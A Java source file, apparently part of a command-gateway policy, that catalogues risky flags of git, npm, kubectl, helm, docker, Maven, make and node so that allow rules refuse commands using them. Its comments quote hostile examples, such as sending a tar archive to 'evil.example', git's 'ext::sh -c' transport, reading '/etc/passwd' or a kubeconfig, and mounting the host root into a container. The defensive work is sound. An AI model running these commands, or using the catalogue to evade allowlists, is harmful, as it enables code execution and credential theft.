package dev.gatehouse.policy;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;

/**
 * Flags of well-known programs that turn an allowed command into another one: they make the program
 * run code or a program the caller chooses ({@code npm test --script-shell=/tmp/x}, {@code git -c
 * core.fsmonitor=... status}, {@code node -r ./x.js}, {@code tar --to-command}), load configuration
 * or credentials from elsewhere ({@code --userconfig}, {@code --kubeconfig}, {@code mvn -s}), act
 * as someone else ({@code kubectl --as}), or write files or open tunnels outside what the command
 * is for ({@code curl -o /home/x/.bashrc}, {@code ssh -L}). An allow or review rule does not match
 * a command that uses one, unless the rule names it: literally in {@code flags.allowed}, or in
 * {@code flags.accept_risky} (a glob in {@code flags.allowed} never admits one, as a wildcard in
 * {@code env} never admits a risky variable). Deny rules are not affected.
 *
 * <p>How argv is read, erring towards finding a risky flag (a false find refuses a command that the
 * operator can then name; a miss would run code): every word before {@code --} that starts with a
 * dash is looked at, wherever it is (before or after a subcommand, as a value of another flag);
 * {@code --name=value} by its name; a long flag also as any listed flag it abbreviates (GNU
 * getopt_long(3), git's parse-options and npm's nopt accept unambiguous prefixes: {@code
 * --script-sh}); {@code -name} (four or more characters) also as {@code --name} (Go's flag package,
 * nopt); a short cluster letter by letter until a letter that takes a value ({@code -vo
 * ProxyCommand=x} is {@code -v -o}); programs without clusters (Maven, Gradle, terraform) by the
 * whole word and its first letter ({@code -sfoo.xml} is {@code -s}). git's global {@code -c} and
 * {@code -C} count before the subcommand, and after it unless that subcommand gives the letter
 * another meaning ({@code git log -C} is copy detection); its subcommands' own flags only with that
 * subcommand ({@code git rebase -x}, {@code git clone -u}). python stops reading options at the
 * script, {@code -c} or {@code -m}, as python does, and java at the main class, source file or
 * {@code -jar}/{@code -m} value (JDK options: one per word, named up to {@code =}, {@code @file}
 * included); other programs are read to the end (a script's own argument that looks like a risky
 * flag is refused too: name it in the rule).
 *
 * <p>What this does not guarantee: the catalogue lists flags, not everything a program can be told
 * to do. Values of ordinary flags are not read ({@code curl -d @/etc/passwd}, {@code mvn
 * -Dcheckstyle.config.location=http://...}), nor configuration files in the workspace ({@code
 * .npmrc}, {@code .mvn/maven.config}, {@code .mvn/jvm.config}, a repository's {@code .git/config}
 * hooks), nor aliases (a git alias defined in a repository). Programs not listed here are not
 * checked. The environment is checked separately ({@link CommandMatcher#riskyEnv}), and deny rules
 * read the values of flags that are command lines ({@link CommandWrappers}).
 */
final class RiskyFlags {
  /** How a program reads single-dash words. */
  enum Style {
    /** getopt(3): {@code -abc} is {@code -a -b -c}; a letter that takes a value ends it. */
    CLUSTERS,
    /** Apache Commons CLI, Gradle, Go's flag package: one option per word ({@code -gs}). */
    WORDS,
    /**
     * getopt clusters, but options end at the script, or after a listed flag that takes the program
     * as its value (python's {@code -c CODE}, {@code -m MODULE}): the rest is the program's own
     * argv.
     */
    SCRIPT,
    /**
     * The JDK's launchers (java, javac, jshell): one option per word, named up to its {@code =}
     * ({@code -XX:OnError=CMD} is {@code -XX:OnError}; a family such as {@code -agentlib:*} by its
     * prefix), no clusters or abbreviations, and a word starting with {@code @} is a file of more
     * options (JDK "java" launcher, "java Command-Line Argument Files"). java stops reading options
     * at the main class, source file, or the value of {@code -jar}/{@code -m}: the rest is the
     * program's own argv. javac and jshell read to the end.
     */
    JDK
  }

  /** Where in argv a flag means what is listed. */
  private static final Set<String> ANYWHERE = Set.of();

  /**
   * One catalogue entry. {@code name} ends with {@code *} for a family ({@code --config.*}). {@code
   * where}: {@link #ANYWHERE}, or the subcommands it applies to (when one of them is among the
   * positional words before it). {@code except}: subcommands after which the same spelling means
   * something harmless (git's global {@code -C DIR} is {@code -C} copy detection after {@code
   * log}); before the subcommand it is always risky.
   */
  record Flag(String name, String why, Set<String> where, Set<String> except) {
    Flag(String name, String why, Set<String> where) {
      this(name, why, where, Set.of());
    }
  }

  /** A program's risky flags and what is needed to find them. */
  record Tool(
      String name,
      Style style,
      String valueLetters,
      boolean abbreviations,
      Set<String> notAbbreviations,
      Set<String> globalValues,
      List<Flag> flags) {}

  /** A risky flag found in argv: the word it was found in and the catalogue entry. */
  record Use(String word, Flag flag, Tool tool) {
    /** Names the flag as written, never its value (which may be a token or a password). */
    String describe() {
      int eq = word.indexOf('=');
      String written = eq < 0 ? word : word.substring(0, eq);
      String as =
          !written.startsWith("--") || written.equals(flag.name()) ? "" : " (as " + written + ")";
      return "flag " + flag.name() + as + " of " + tool.name() + " " + flag.why();
    }
  }

  private static final String RUNS = "runs code or a program the caller chooses";
  private static final String CONFIG = "loads configuration or credentials from elsewhere";
  private static final String IDENTITY = "changes the target or the identity it acts as";
  private static final String WRITES = "writes or reads files outside the command's purpose";
  private static final String TUNNEL = "opens a tunnel or forwards a connection";
  private static final String READS = "reads a file or URL the caller chooses";
  private static final String DELETES = "deletes the files it archives";
  private static final String HOST =
      "gives the container the host (its privileges, devices, namespaces or files)";

  /**
   * Ruby 3.3+ {@code --crash-report=|CMD}: on a crash ruby writes its report to a pipe to CMD (a
   * shell command; ruby(1) "--crash-report", and {@code RUBY_CRASH_REPORT}). Ruby reads long
   * options by segment prefixes ({@code --crash}, {@code --c-r}: ruby.c {@code name_match_p}),
   * found by {@link #rubyLongOption}.
   */
  static final Flag RUBY_CRASH_REPORT = new Flag("--crash-report", RUNS, ANYWHERE);

  /**
   * tar's {@code -C DIR} / {@code --directory=DIR} (bsdtar also {@code --cd}) with a directory that
   * is not under the working directory: {@code tar -xf x.tar -C /} writes anywhere, as {@code -P}
   * does. Found by {@link #leavesWorkdir} on its value; a rule admits it by this name in {@code
   * flags.accept_risky} (not by {@code --directory}, which names the ordinary flag). {@code -C out}
   * and {@code -C a/../b} are not risky.
   */
  static final Flag TAR_DIRECTORY =
      new Flag(
          "directory-outside",
          "changes to a directory outside the working directory (absolute, ~ or climbing with ..)",
          ANYWHERE);

  /**
   * GNU tar's {@code -f HOST:FILE} ({@code --file}, old-style {@code tar cf h:x.tar}): an archive
   * name with a colon, not first and after no {@code /}, is on another host, which tar reaches by
   * running its {@code --rsh-command} (default {@code /usr/bin/rsh}, often ssh) and {@code rmt}
   * there (GNU tar manual, "Remote Tape Server"; rtapelib.c {@code _remdev}; GNU tar 1.34 resolves
   * {@code evil.example} for {@code tar -cf evil.example:/tmp/x.tar a}): {@code -c} sends the
   * archive to a host the caller chooses. Not risky with {@code --force-local}, which reads the
   * name as a local file.
   */
  static final Flag TAR_REMOTE_ARCHIVE =
      new Flag(
          "remote-archive",
          "names an archive on another host (HOST:FILE), which tar reaches through rsh",
          ANYWHERE);

  /**
   * bsdtar's {@code @ARCHIVE} operand ({@code tar -cf out.tar @in.tar}, {@code @-} for stdin): the
   * entries of another archive are read and added (bsdtar(1), "@archive"; tar/write.c reads every
   * operand starting with {@code @} so, also after {@code --}). The archive is a file the caller
   * chooses, and {@code paths} reads {@code @/etc/x.tar} as a relative name in the working
   * directory, so it is not checked there. GNU tar gives {@code @} no meaning, and {@code tar} is
   * bsdtar on some hosts (FreeBSD, macOS, Debian's libarchive-tools as {@code bsdtar}): every tar
   * word that starts with {@code @} counts, erring towards finding. A rule admits it by this name
   * in {@code flags.accept_risky}.
   */
  static final Flag TAR_ARCHIVE_OPERAND =
      new Flag(
          "@archive",
          "reads the entries of another archive the caller chooses (bsdtar's @ARCHIVE operand)",
          ANYWHERE);

  /**
   * tar options whose value is a file whose date tar reads, outside the working directory: GNU
   * tar's {@code -N}/{@code --newer}/{@code --after-date} and {@code --newer-mtime} read a value
   * starting with {@code /} or {@code .} as a file and take its modification time (GNU tar manual,
   * "Operating Only on New Files"; tar.c {@code get_date_or_file}; checked with GNU tar 1.34:
   * {@code -N /nonexistent} fails with "Date sample file not found"); bsdtar's {@code
   * --newer-than}, {@code --newer-mtime-than}, {@code --older-than}, {@code --older-mtime-than}
   * always name a file (bsdtar(1)). Only its date is read, but of a file the policy's {@code paths}
   * never see: which files exist outside them, and when they changed. Found by {@link #tarDateFile}
   * with a file that is not under the working directory ({@link #leavesWorkdir}); a rule admits it
   * by this name in {@code flags.accept_risky}. {@code -N 2024-01-01} and {@code -N ./ref} are not
   * risky.
   */
  static final Flag TAR_DATE_FILE =
      new Flag(
          "date-file-outside",
          "reads the date of a file outside the working directory (-N/--newer FILE)",
          ANYWHERE);

  /**
   * Why tar's {@code -T}/{@code --files-from} (bsdtar's {@code -I} is its synonym, risky anyway as
   * GNU tar's {@code --use-compress-program}) and {@code --add-file} are risky, whatever their
   * value and mode. A file list names the files tar archives (read on {@code -c}, {@code -r},
   * {@code -u}: {@code /etc/shadow} and {@code ../x} are read, only the names stored in the archive
   * lose their leading {@code /} and {@code ../}) or the members it extracts, from a file the
   * policy cannot see ({@code -T -}: the caller's stdin). Unless {@code --verbatim-files-from} is
   * in effect GNU tar also obeys options in it (GNU tar manual, "Reading Names from a File";
   * checked with GNU tar 1.34): {@code -C DIR} and {@code --directory=DIR} change where later names
   * are read or extracted to (anywhere), {@code --add-file} names a file, {@code -T} another list;
   * bsdtar, creating, reads a {@code -C} line and the directory on the next one (bsdtar(1) {@code
   * -T}, tar/write.c). {@code --verbatim-files-from} and {@code --null} do not make it safe (an
   * absolute name is still read, and each {@code -T} reads option lines or not as the last {@code
   * --[no-]verbatim-files-from} before it says), so neither is looked at. {@code --add-file=FILE}
   * names one file as a flag's value, which {@code paths} does not check. {@code -X}/{@code
   * --exclude-from} only narrows what is archived or extracted, and is not risky.
   */
  private static final String FILE_LIST =
      "reads the names of the files it archives or extracts (and, in GNU tar, -C DIR) from where"
          + " the policy cannot see them";

  /**
   * gh's {@code alias set --shell}: the alias runs its expansion with sh. Also what {@link
   * #findAll} reports for an expansion starting with {@code !}, which gh reads the same way (gh
   * alias set --help), so that a rule admits both by naming {@code --shell}.
   */
  static final Flag GH_SHELL_ALIAS = new Flag("--shell", RUNS, Set.of("alias"));

  /**
   * gh's {@code config set KEY VALUE} for a key that makes gh run a program later or send its
   * requests elsewhere: {@code editor}, {@code pager}, {@code browser} (programs gh runs) and
   * {@code http_unix_socket} (where gh sends its HTTP requests, the token with them), per gh's
   * manual (cli.github.com/manual/gh_config: "Current respected settings"). gh sets a key it does
   * not know too (with a warning), so every key but {@link #GH_HARMLESS_SETTINGS} is risky.
   */
  static final Flag GH_CONFIG_SET = new Flag("config set", RUNS, Set.of("config"));

  /**
   * gh's settings that neither run a program nor send requests elsewhere (gh_config manual): {@code
   * git_protocol} (https or ssh to the same host), {@code prompt}, {@code prefer_editor_prompt}
   * (whether to prompt, not what runs: the editor is {@code editor}), {@code color_labels}, {@code
   * accessible_colors}, {@code accessible_prompter}, {@code spinner}.
   */
  private static final Set<String> GH_HARMLESS_SETTINGS =
      Set.of(
          "git_protocol",
          "prompt",
          "prefer_editor_prompt",
          "color_labels",
          "accessible_colors",
          "accessible_prompter",
          "spinner");

  /**
   * Values of docker run/create options that give the container the host, found by {@link
   * #dockerHostValue}; a rule admits one by this name in {@code flags.accept_risky}. {@code
   * bind-mount}: {@code -v}/{@code --volume} whose source is not a volume name (a host path: {@code
   * -v /:/host}), or a {@code --mount} that is not a plain volume or tmpfs.
   */
  static final List<Flag> DOCKER_HOST_VALUES =
      flags(
          HOST,
          Set.of("run", "create", "update"),
          "--network=host",
          "--pid=host",
          "--ipc=host",
          "--uts=host",
          "--userns=host",
          "--cgroupns=host",
          "bind-mount");

  /**
   * git diff's {@code --no-index}: the two paths are any files of the host. Also what {@link
   * #implicitNoIndex} reports, so that a rule admits both by naming {@code --no-index}.
   */
  static final Flag NO_INDEX =
      new Flag(
          "--no-index", "reads files outside the repository", Set.of("diff", "difftool", "grep"));

  /**
   * git's {@code ext::} remote transport: {@code git fetch 'ext::sh -c id'} runs the command after
   * {@code ext::} (git-remote-ext(1)). git refuses it by default (git-config(1) {@code
   * protocol.allow}: ext is {@code never}), but a user's or a repository's configuration may allow
   * it, and the gateway does not read those. Not a flag: {@link #extTransport} finds it among the
   * arguments; a rule admits it by naming {@code ext::} in {@code flags.accept_risky}.
   */
  static final Flag EXT_TRANSPORT = new Flag("ext::", "runs the command in the URL", Set.of());

  /**
   * An option npm passes to a package script's program: the words after {@code --} when npm's
   * command runs a script ({@code run} and its aliases {@code run-script}, {@code rum}, {@code
   * urn}; {@code test}, {@code t}, {@code tst}; {@code start}, {@code stop}, {@code restart}). npm
   * appends them to the script's command line (npm-run-script(1): {@code npm run <event> --
   * <args>}; npm 11.19.1 quotes each for the shell), so they are options of a program the policy
   * does not see: with the test script {@code node --test}, {@code npm test --
   * --import=data:text/javascript,...} runs the caller's code (node 20; red team rt21exec), as
   * {@code jest --config}, {@code mocha --require} or {@code eslint -c FILE.js} would. Words before
   * {@code --} are npm's own options (nopt reads them all), and words the rule's {@code args} match
   * are the rule's. Found by {@link #npmScriptOption}; a rule admits it by this name in {@code
   * flags.accept_risky}.
   */
  static final Flag NPM_SCRIPT_OPTIONS =
      new Flag(
          "script-options",
          "passes options to the package script's program (node --test --import, jest --config and"
              + " eslint -c run code the caller chooses)",
          ANYWHERE);

  /** npm's commands that run a package script with the words after {@code --}. */
  private static final Set<String> NPM_SCRIPT_COMMANDS =
      Set.of("run", "run-script", "test", "start", "stop", "restart");

  private static final Map<String, Tool> BY_PROGRAM = new HashMap<>();

  /**
   * kubectl's output formats that read a template from a file on the host kubectl runs on (kubectl
   * get --help: {@code -o go-template-file|templatefile|jsonpath-file|custom-columns-file} with
   * {@code --template} or {@code =FILE}). A template's text outside its actions is printed as it
   * is, once per object, so {@code kubectl get pods -o jsonpath-file=/home/ops/.kube/config} prints
   * the jump host's kubeconfig, credentials included. Not a flag of its own: found by the value of
   * {@code -o}/{@code --output} ({@link #kubectlFileOutput}); a rule admits it by this name in
   * {@code flags.accept_risky}.
   */
  static final Flag KUBECTL_FILE_OUTPUT =
      new Flag(
          "--output-template-file",
          "reads a file on the host the caller chooses and prints it",
          ANYWHERE);

  static {
    // npm reads every setting as --name (nopt): the ones that run programs or load other
    // configuration are those refused in npm_config_* variables (CommandMatcher.RISKY_NPM_CONFIG).
    List<Flag> npm = new ArrayList<>();
    for (String key : CommandMatcher.RISKY_NPM_CONFIG) {
      String why =
          Set.of("userconfig", "globalconfig", "prefix", "cache").contains(key) ? CONFIG : RUNS;
      npm.add(new Flag("--" + key.replace('_', '-'), why, ANYWHERE));
    }
    npm.add(new Flag("-C", CONFIG, ANYWHERE)); // --prefix
    npm.add(new Flag("-c", RUNS, ANYWHERE)); // --call (npm exec)
    npm.add(new Flag("--config.*", RUNS, ANYWHERE)); // pnpm --config.KEY=VALUE
    npm.add(NPM_SCRIPT_OPTIONS); // npm test -- --import=... (not a flag: npmScriptOption)
    Set<String> npmExact = Set.of("--global", "--ca", "--user", "--init", "--git-tag-version");
    tool(
        List.of("npm", "pnpm"),
        new Tool("npm", Style.CLUSTERS, "wCcp", true, npmExact, Set.of(), npm));
    List<Flag> npx = new ArrayList<>(npm);
    npx.add(new Flag("-p", RUNS, ANYWHERE));
    npx.add(new Flag("--package", RUNS, ANYWHERE));
    tool(
        List.of("npx", "pnpx"),
        new Tool("npx", Style.CLUSTERS, "wCcp", true, npmExact, Set.of(), npx));
    tool(
        List.of("yarn"),
        new Tool(
            "yarn",
            Style.CLUSTERS,
            "wCcp",
            true,
            npmExact,
            Set.of(),
            concat(
                npm,
                flags(CONFIG, ANYWHERE, "--cwd", "--use-yarnrc", "--dir", "--global-folder"))));

    // git(1) OPTIONS (global, before the command), git-config(1) for -c, and subcommand options
    // whose value git runs as a program.
    List<Flag> git = new ArrayList<>();
    // -c and -C are git's global options before the subcommand (and -c is clone's --config);
    // after these subcommands the letters mean a diff format, a message to reuse, copy detection
    // or context lines. Anywhere else they are refused: git rejects them, or they mean the global.
    Set<String> diffish =
        Set.of(
            "log",
            "show",
            "diff",
            "diff-tree",
            "diff-files",
            "diff-index",
            "whatchanged",
            "rev-list",
            "blame",
            "annotate",
            "commit",
            "branch",
            "grep",
            "am",
            "apply",
            "rebase",
            "format-patch",
            "cherry-pick",
            "revert",
            "merge-file",
            "describe",
            "range-diff");
    git.add(new Flag("-c", RUNS, ANYWHERE, diffish));
    git.add(new Flag("-C", CONFIG, ANYWHERE, diffish));
    git.addAll(flags(RUNS, ANYWHERE, "--config-env", "--exec-path"));
    git.addAll(flags(CONFIG, ANYWHERE, "--git-dir", "--work-tree", "--namespace"));
    // git.c handle_options: --bare sets GIT_DIR to the working directory, so a checkout's
    // committed config, HEAD, objects/ and refs/ (an embedded bare repository) become the
    // repository and its configuration (core.fsmonitor, core.pager run programs), as
    // --git-dir=. does; explicit, it also passes safe.bareRepository=explicit (rt19exec). clone
    // and init have a --bare of their own.
    git.add(new Flag("--bare", CONFIG, ANYWHERE, Set.of("clone", "init")));
    git.addAll(flags(RUNS, Set.of("clone", "ls-remote"), "-u"));
    git.addAll(flags(RUNS, Set.of("clone", "fetch", "pull", "ls-remote"), "--upload-pack"));
    git.addAll(flags(RUNS, Set.of("push", "send-pack"), "--receive-pack", "--exec"));
    git.addAll(flags(RUNS, Set.of("archive", "ls-remote"), "--exec"));
    git.addAll(flags(RUNS, Set.of("rebase"), "-x", "--exec"));
    git.addAll(flags(RUNS, Set.of("difftool"), "-x", "--extcmd"));
    git.addAll(flags(RUNS, Set.of("grep"), "-O", "--open-files-in-pager"));
    git.addAll(flags(RUNS, Set.of("clone", "init"), "--template", "--config"));
    git.addAll(
        flags(
            RUNS,
            Set.of("filter-branch"),
            "--env-filter",
            "--tree-filter",
            "--index-filter",
            "--parent-filter",
            "--msg-filter",
            "--commit-filter",
            "--tag-name-filter"));
    git.addAll(
        flags(
            RUNS,
            Set.of("send-email"),
            "--sendmail-cmd",
            "--smtp-server",
            "--to-cmd",
            "--cc-cmd",
            "--header-cmd"));
    // git diff --no-index A B compares any two files of the host, not the checkout (git-diff(1));
    // without the flag git does the same when one of two paths is outside the work tree
    // (implicitNoIndex). builtin/diff.c compares the word literally; abbreviations are refused too.
    git.add(NO_INDEX);
    git.add(EXT_TRANSPORT);
    git.addAll(flags(WRITES, ANYWHERE, "--output"));
    git.addAll(flags(WRITES, Set.of("format-patch"), "-o", "--output-directory"));
    // git.c handle_options: the global options that take the next word as their value.
    Set<String> gitValues =
        Set.of(
            "-c",
            "-C",
            "--git-dir",
            "--work-tree",
            "--namespace",
            "--super-prefix",
            "--config-env",
            "--shallow-file",
            "--attr-source");
    tool(List.of("git"), new Tool("git", Style.CLUSTERS, "", true, Set.of(), gitValues, git));

    // kubectl options(1): the client's connection and identity, and kubeconfig exec plugins.
    List<Flag> kubectl = new ArrayList<>();
    kubectl.addAll(
        flags(
            CONFIG,
            ANYWHERE,
            "--kubeconfig",
            "--kuberc", // kubectl 1.33+: aliases and default flags for commands
            "--token",
            "--user",
            "--username",
            "--password",
            "--certificate-authority",
            "--client-certificate",
            "--client-key",
            "--insecure-skip-tls-verify",
            "--tls-server-name",
            "--cache-dir"));
    kubectl.addAll(
        flags(
            IDENTITY,
            ANYWHERE,
            "--server",
            "-s",
            "--cluster",
            "--context",
            "--as",
            "--as-group",
            "--as-uid"));
    kubectl.addAll(
        flags(
            RUNS,
            ANYWHERE,
            "--exec-command",
            "--exec-arg",
            "--exec-env",
            "--exec-api-version",
            "--auth-provider",
            "--auth-provider-arg"));
    // -f/--filename (get, describe, apply, delete...) reads manifests from a file on the host or a
    // URL the host fetches, and -k/--kustomize a directory whose kustomization may fetch remote
    // bases; logs -f is --follow. The kustomize options run programs (helm, exec plugins).
    kubectl.add(new Flag("-f", READS, ANYWHERE, Set.of("logs")));
    kubectl.addAll(flags(READS, ANYWHERE, "--filename", "-k", "--kustomize"));
    kubectl.addAll(
        flags(RUNS, ANYWHERE, "--enable-alpha-plugins", "--enable-exec", "--helm-command"));
    kubectl.add(KUBECTL_FILE_OUTPUT);
    // --raw (get, create, replace, delete): a request to any path of the API server, the proxy
    // subresources included (GET /api/v1/namespaces/N/services/S:P/proxy/PATH reaches a service
    // inside the cluster, as kubectl proxy and port-forward do; pods/P/proxy, nodes/N/proxy the
    // kubelet); config view --raw prints the kubeconfig's credentials (red team rt21exec)
    kubectl.add(
        new Flag(
            "--raw",
            "sends a request to any path of the API server (the proxy subresources of services,"
                + " pods and nodes included), or after config view prints the credentials",
            ANYWHERE));
    // kubectl options(1): the global options that take a value (pflag takes the next word, even
    // one starting with a dash), so that the word after them is not taken for the subcommand
    // (kubectl -n payments logs api -f: the subcommand is logs, not payments).
    Set<String> kubectlValues =
        Set.of(
            "-n",
            "--namespace",
            "--context",
            "--cluster",
            "--user",
            "-s",
            "--server",
            "--kubeconfig",
            "--kuberc",
            "--token",
            "--as",
            "--as-group",
            "--as-uid",
            "--cache-dir",
            "--certificate-authority",
            "--client-certificate",
            "--client-key",
            "--tls-server-name",
            "--request-timeout",
            "--username",
            "--password",
            "-v",
            "--v",
            "--vmodule",
            "--profile",
            "--profile-output",
            "--log-flush-frequency");
    tool(
        List.of("kubectl", "oc"),
        new Tool("kubectl", Style.CLUSTERS, "cfklLnops", false, Set.of(), kubectlValues, kubectl));

    // helm (helm.sh/helm/v3 `helm --help`, pkg/cli/environment.go): the cluster and identity, the
    // registry and repository configuration (credentials), and --post-renderer, a program helm runs
    // on the rendered manifests (install, upgrade, template). -f/--values and --set-file read files
    // on the host (helm template prints them). plugin install/update run the plugin's hooks, and
    // the plugin runs as a helm command afterwards.
    Set<String> helmValues =
        Set.of(
            "-n",
            "--namespace",
            "--kube-context",
            "--kubeconfig",
            "--kube-apiserver",
            "--kube-as-user",
            "--kube-as-group",
            "--kube-ca-file",
            "--kube-token",
            "--kube-tls-server-name",
            "--registry-config",
            "--repository-config",
            "--repository-cache",
            "--content-cache",
            "--burst-limit",
            "--qps",
            "--color",
            "--colour");
    tool(
        List.of("helm"),
        new Tool(
            "helm",
            Style.CLUSTERS,
            "nfos",
            false,
            Set.of(),
            helmValues,
            concat(
                flags(RUNS, ANYWHERE, "--post-renderer", "--post-renderer-args"),
                flags(
                    CONFIG,
                    ANYWHERE,
                    "--kubeconfig",
                    "--kube-token",
                    "--kube-ca-file",
                    "--kube-insecure-skip-tls-verify",
                    "--registry-config",
                    "--repository-config",
                    "--repository-cache",
                    "--ca-file",
                    "--cert-file",
                    "--key-file",
                    "--keyring",
                    "--username",
                    "--password"),
                flags(
                    IDENTITY,
                    ANYWHERE,
                    "--kube-apiserver",
                    "--kube-context",
                    "--kube-as-user",
                    "--kube-as-group",
                    "--kube-tls-server-name"),
                // helm list -f is --filter, a regular expression (helm ls is list: the command
                // word is read through ProgramOptions.cobraCommandName)
                List.of(new Flag("-f", READS, ANYWHERE, Set.of("list"))),
                flags(READS, ANYWHERE, "--values", "--set-file"),
                flags(RUNS, Set.of("plugin"), "plugin install", "plugin update"),
                // unpacked or rendered into any directory: helm's plugins directory installs a
                // plugin by the back door
                flags(RUNS, Set.of("pull"), "--untardir"),
                flags(RUNS, Set.of("template"), "--output-dir"))));

    // gh (cli/cli): -R/--repo and --hostname point a command at another repository or host; an
    // alias set with --shell (or an expansion starting with "!") runs a shell command as a gh
    // command; extensions are programs gh installs and runs (gh extension install/upgrade/exec,
    // then gh NAME); gh alias import reads aliases, shell ones included, from a file.
    tool(
        List.of("gh"),
        new Tool(
            "gh",
            Style.CLUSTERS,
            "RsbcfFHjlLqtXwaAe",
            false,
            Set.of(),
            Set.of("-R", "--repo"),
            concat(
                flags(IDENTITY, ANYWHERE, "-R", "--repo", "--hostname"),
                List.of(GH_SHELL_ALIAS),
                flags(RUNS, Set.of("alias"), "-s", "alias import"),
                flags(
                    RUNS,
                    Set.of("extension"),
                    "extension install",
                    "extension upgrade",
                    "extension exec"),
                flags(READS, Set.of("api"), "--input"),
                List.of(GH_CONFIG_SET))));

    // docker (docker/cli cli/flags/options.go, docker run --help): -H/--host and -c/--context
    // another daemon (ssh:// runs ssh), --config another configuration directory (its cli-plugins
    // run as docker commands, its config.json holds credentials), the TLS files; run, create and
    // exec options that give the container the host: --privileged, --cap-add, --device, a
    // --security-opt that lifts confinement, a host namespace (--network=host...: dockerHostValue),
    // a bind mount of a host path (-v /:/host, --mount type=bind); plugin install grants a managed
    // plugin the privileges it asks for.
    Set<String> dockerValues =
        Set.of(
            "-H",
            "--host",
            "-c",
            "--context",
            "--config",
            "-l",
            "--log-level",
            "--tlscacert",
            "--tlscert",
            "--tlskey");
    Set<String> container = Set.of("run", "create", "exec", "update");
    List<Flag> docker = new ArrayList<>();
    docker.addAll(flags(IDENTITY, ANYWHERE, "-H", "--host", "--context"));
    // -c is --cpu-shares after run, create and update
    docker.add(new Flag("-c", IDENTITY, ANYWHERE, Set.of("run", "create", "update", "container")));
    docker.addAll(flags(CONFIG, ANYWHERE, "--config", "--tlscacert", "--tlscert", "--tlskey"));
    docker.addAll(
        flags(
            HOST,
            container,
            "--privileged",
            "--cap-add",
            "--device",
            "--device-cgroup-rule",
            "--security-opt",
            "--volumes-from"));
    docker.addAll(DOCKER_HOST_VALUES);
    docker.addAll(flags(HOST, Set.of("plugin"), "plugin install", "plugin upgrade"));
    // docker cp CONTAINER:SRC DEST writes a host path (~/.docker/cli-plugins/docker-compose); so
    // do save/export -o, build/buildx --output and run --cidfile
    docker.addAll(flags(HOST, Set.of("container"), "container cp"));
    docker.addAll(
        flags(
            WRITES,
            Set.of("save", "export", "image", "container", "build", "buildx", "builder"),
            "-o",
            "--output"));
    docker.addAll(flags(WRITES, Set.of("run", "create", "container"), "--cidfile"));
    // context use/create/import/update point later commands at another daemon, as -c does
    docker.addAll(
        flags(
            IDENTITY,
            Set.of("context"),
            "context use",
            "context create",
            "context import",
            "context update"));
    // buildx --allow security.insecure, network.host: privileged build steps
    docker.addAll(flags(HOST, Set.of("buildx", "build", "builder"), "--allow"));
    // volume create -o type=none -o o=bind -o device=/: a volume that binds a host path
    docker.addAll(flags(HOST, Set.of("volume"), "-o", "--opt"));
    tool(
        List.of("docker"),
        new Tool("docker", Style.CLUSTERS, "acehlmpuvwH", false, Set.of(), dockerValues, docker));

    // Maven (mvn --help): settings and toolchains files hold repositories, credentials and
    // plugin configuration; -f another project's POM runs its plugins.
    tool(
        List.of("mvn", "mvnw", "mvnd"),
        new Tool(
            "mvn",
            Style.WORDS,
            "",
            true,
            Set.of("-fae", "-ff", "-fn"),
            Set.of(),
            concat(
                flags(
                    CONFIG,
                    ANYWHERE,
                    "-s",
                    "--settings",
                    "-gs",
                    "--global-settings",
                    "-t",
                    "--toolchains",
                    "-gt",
                    "--global-toolchains"),
                flags(RUNS, ANYWHERE, "-f", "--file"),
                // user properties that plugins read as programs or code to run: surefire's argLine
                // (-javaagent: in the forked test JVM) and jvm, exec-maven-plugin's exec.*, core
                // extensions from maven.ext.class.path, plugins from another local repository;
                // surefire's and failsafe's debug options (JVM options of the forked test JVM,
                // maven-surefire-plugin "Debugging Tests"), the compiler's executable (run when
                // fork is on, which -Dmaven.compiler.fork=true turns on), javadoc's and gpg's
                // executables
                flags(
                    RUNS,
                    ANYWHERE,
                    "-DargLine",
                    "-Djvm",
                    "-Dexec.*",
                    "-Dmaven.ext.class.path",
                    "-Dmaven.repo.local",
                    "-Dmaven.surefire.debug",
                    "-Dmaven.failsafe.debug",
                    "-Dmaven.compiler.executable",
                    "-DjavadocExecutable",
                    "-Dgpg.executable",
                    // rt21exec: surefire's and failsafe's additional test classpath (3.2+: also
                    // artifacts by coordinates, resolved from the remote repositories), whose
                    // META-INF/services listeners JUnit Platform loads and runs; Maven 3.9's
                    // read-only local repositories searched after the local one (plugins too)
                    "-Dmaven.test.additionalClasspath",
                    "-Dmaven.test.additionalClasspathDependencies",
                    "-Dmaven.repo.local.tail"))));
    // GNU make (make(1)): --eval is read before the makefiles ($(shell ...) runs at once), -f
    // reads another makefile, -C another directory's, -I includes from elsewhere. getopt_long
    // accepts abbreviations (--ev, --makef).
    tool(
        List.of("make", "gmake"),
        new Tool(
            "make",
            Style.CLUSTERS,
            "CfIEoW",
            true,
            Set.of(),
            Set.of(),
            concat(
                flags(RUNS, ANYWHERE, "--eval", "-E", "-f", "--file", "--makefile"),
                flags(CONFIG, ANYWHERE, "-C", "--directory", "-I", "--include-dir"))));
    // Gradle (gradle --help): init scripts run first; another build, settings or user home runs
    // other code (GRADLE_USER_HOME/init.d).
    tool(
        List.of("gradle", "gradlew"),
        new Tool(
            "gradle",
            Style.WORDS,
            "",
            true,
            Set.of(),
            Set.of(),
            flags(
                RUNS,
                ANYWHERE,
                "-I",
                "--init-script",
                "-c",
                "--settings-file",
                "-b",
                "--build-file",
                "-p",
                "--project-dir",
                "-g",
                "--gradle-user-home",
                "--include-build")));
    // terraform: Go's flag package (-x and --x alike, no abbreviations). -chdir runs another
    // configuration; plugins are programs; backend and state options move credentials and state.
    tool(
        List.of("terraform", "tofu"),
        new Tool(
            "terraform",
            Style.WORDS,
            "",
            false,
            Set.of(),
            Set.of(),
            concat(
                flags(RUNS, ANYWHERE, "-chdir", "-plugin-dir"),
                flags(CONFIG, ANYWHERE, "-backend-config", "-state", "-state-out"),
                // plan -generate-config-out=PATH writes HCL to any path (terraform 1.5+)
                flags(WRITES, ANYWHERE, "-generate-config-out"))));

    // Interpreters: code from the command line, preloaded modules, a debugger port.
    tool(
        List.of("node", "nodejs"),
        new Tool(
            "node",
            Style.CLUSTERS,
            "eprC",
            false,
            Set.of(),
            Set.of(),
            flags(
                RUNS,
                ANYWHERE,
                "-e",
                "--eval",
                "-p",
                "--print",
                "-r",
                "--require",
                "--import",
                "--loader",
                "--experimental-loader",
                "-i",
                "--interactive",
                "--inspect",
                "--inspect-brk",
                "--inspect-wait",
                "--env-file",
                "--env-file-if-exists",
                "--openssl-config",
                // node.config.json's nodeOptions (import, require...), Node.js 23.10+
